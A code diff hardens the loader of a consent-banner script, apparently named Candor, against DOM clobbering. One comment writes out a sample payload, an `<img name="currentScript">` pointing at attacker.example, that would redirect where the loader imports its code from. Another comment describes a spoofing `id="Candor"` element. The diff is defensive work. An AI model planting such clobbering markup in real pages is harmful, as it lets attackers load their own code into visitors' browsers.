@@ -69,11 +69,23 @@ function firstVisit(view: SiteView): boolean {
 
 /**
  * The loader's own `<script>`: `document.currentScript`, else (a module script, where that is
- * null) the script whose URL the running code comes from, as the stack names it.
+ * null) the script whose URL the running code comes from, as the stack names it. Only a real
+ * script element: markup parsed before a late loader can shadow `document.currentScript` (or
+ * `scripts`) with an `<img name="currentScript" src="https://attacker.example/">`, whose URL the
+ * chunks would otherwise be imported from; the stack then decides. Nothing found: undefined (the
+ * chunks then fail to load, and nothing is granted).
  */
-const ownScript = (): HTMLScriptElement | undefined =>
-  (document.currentScript as HTMLScriptElement | null) ??
-  [...document.scripts].find((s) => s.src && Error().stack?.includes(s.src));
+function ownScript(): HTMLScriptElement | undefined {
+  try {
+    const own = document.currentScript;
+    const stack = Error().stack;
+    return [own, ...document.scripts].find(
+      (s) => s instanceof HTMLScriptElement && (s === own || (s.src && stack?.includes(s.src))),
+    ) as HTMLScriptElement | undefined;
+  } catch {
+    return undefined;
+  }
+}
 
 /**
  * Starts Candor for the current `<script>` (or attaches to an existing `window.Candor`).
@@ -81,7 +93,9 @@ const ownScript = (): HTMLScriptElement | undefined =>
  * (`candor-autoblock.js`), so the plain loader stays within its budget.
  */
 export function boot(autoBlock?: AutoBlockInstaller): void {
-  if (window.Candor) return; // a second copy attaches to the first: one instance, one banner
+  // A second copy attaches to the first: one instance, one banner. Own property only: an element
+  // with id="Candor" (markup parsed before a late loader) is not a first copy, and must not stop this one.
+  if (Object.hasOwn(window, 'Candor')) return;
   const script = ownScript();
   const base = script?.src || location.href;
   // A mistake's words load only when there is one (the diagnostics chunk, once each per page).
